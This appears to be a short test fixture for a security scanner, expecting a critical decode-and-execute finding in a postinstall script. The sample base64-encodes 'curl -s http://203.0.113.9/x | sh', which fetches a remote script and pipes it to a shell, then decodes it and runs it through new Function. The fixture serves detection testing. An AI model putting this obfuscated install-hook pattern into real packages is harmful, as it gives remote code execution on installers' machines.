# expect: shell.decode_exec critical
# note: decoded on one line, run on the next
# path: scripts/postinstall.ts
const payload = Buffer.from(process.argv[2] || "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo", "base64").toString();
new Function(payload)();
